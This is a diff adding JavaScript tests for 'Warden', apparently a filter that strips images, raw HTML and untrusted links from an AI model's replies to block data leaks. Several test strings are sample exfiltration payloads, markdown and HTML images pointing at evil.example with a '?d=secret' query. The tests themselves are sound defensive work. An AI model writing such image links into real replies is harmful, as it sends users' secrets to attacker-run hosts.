@@ -70,3 +70,32 @@ describe("reply filter: a section of a page the context offered", () => {
     assert.doesNotMatch(out, /91500/);
   });
 });
+
+describe("reply filter: a clean context refuses only what loads by itself", () => {
+  const clean = () => createFlowTracker({ label: () => [], baseSecrets: [], clock: () => 1_000_000, history: [], userText: "write me a long answer", userSource: "owner" }).state();
+
+  test("a reply with no image and no HTML leaves as written, links, emphasis and size alike", async () => {
+    const links = "See [the report](https://other.example/r?d=1), <https://a.example> is not here, and https://b.example/x. ";
+    const plain = "See [the report](https://other.example/r?d=1) and https://b.example/x, *emphasis* _too_ & [ref].\n\n";
+    assert.equal(await filterReplyText(deps, owner, clean(), plain, "owner"), plain);
+    // Past what the parser takes (unparsed text is otherwise escaped): nothing in it can load, so nothing changes.
+    const big = plain.repeat(Math.ceil(200_000 / plain.length));
+    assert.equal(await filterReplyText(deps, owner, clean(), big, "owner"), big);
+    // An autolink starts with `<`, so this one is parsed; a clean context keeps it.
+    assert.equal(await filterReplyText(deps, owner, clean(), links, "owner"), links);
+  });
+
+  test("images and HTML are still found and removed: inline, by reference, and as raw HTML", async () => {
+    for (const reply of ["Look: ![chart](https://evil.example/c.png?d=secret)", "Look: ![chart][c]\n\n[c]: https://evil.example/c.png", "Look: <img src=\"https://evil.example/c.png\">"]) {
+      const out = await filterReplyText(deps, owner, clean(), reply, "owner");
+      assert.match(out, /\[(image|HTML) removed by Warden\]/, reply);
+      assert.doesNotMatch(out, /!\[|<img/, reply);
+      assert.match(out, /Warden removed an image the model wrote/, reply);
+    }
+  });
+
+  test("an untrusted context still judges every link of a reply without images", async () => {
+    const out = await filterReplyText(deps, owner, afterFileRead(), "Plain: https://other.example/b?d=1", "owner");
+    assert.match(out, /\[link to other\[\.\]example removed by Warden\]/);
+  });
+});
